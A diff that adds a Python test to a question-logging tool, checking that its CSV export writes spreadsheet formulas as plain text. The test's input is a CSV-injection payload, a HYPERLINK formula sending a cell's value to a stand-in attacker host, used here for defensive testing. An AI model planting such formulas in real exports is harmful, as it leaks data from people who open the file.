@@ -109,3 +109,16 @@ def test_the_staff_desk_groups_frequent_questions_and_exports(tmp_path):
     exported = desk.export(QuestionFilter(language="fr"))
     assert exported.splitlines()[0].startswith("id,time,question") and "Quels élus ukrainiens ?" in exported
     assert len(exported.splitlines()) == 2
+
+
+def test_the_csv_export_writes_formulas_as_text(tmp_path):
+    import csv
+    import io
+
+    log = QuestionLog(tmp_path / "q.sqlite3")
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    log.record(answer(formula, status="not_found"))
+    out = io.StringIO()
+    assert log.export(out, "csv") == 1
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["question"] == "'" + formula
